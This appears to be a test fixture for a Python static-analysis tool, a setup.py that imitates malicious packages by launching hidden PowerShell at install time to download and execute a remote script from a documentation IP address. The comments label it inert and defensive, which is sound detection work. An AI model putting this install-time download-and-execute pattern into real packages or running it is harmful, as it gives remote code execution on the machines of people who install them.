# INERT test sample for pyward's static analysis: never run it. Modelled on Windows install-time PowerShell download cradles.
# Documented: https://blog.phylum.io/ (2022-2023 setup.py PowerShell droppers)
# Every address is a documentation address (RFC 5737); nothing here is functional malware.
import subprocess
from setuptools import setup
subprocess.Popen('powershell -w hidden -c "iex (New-Object Net.WebClient).DownloadString(\'http://203.0.113.5/p.ps1\')"', shell=True)
setup(name='win-helper', version='0.0.0')
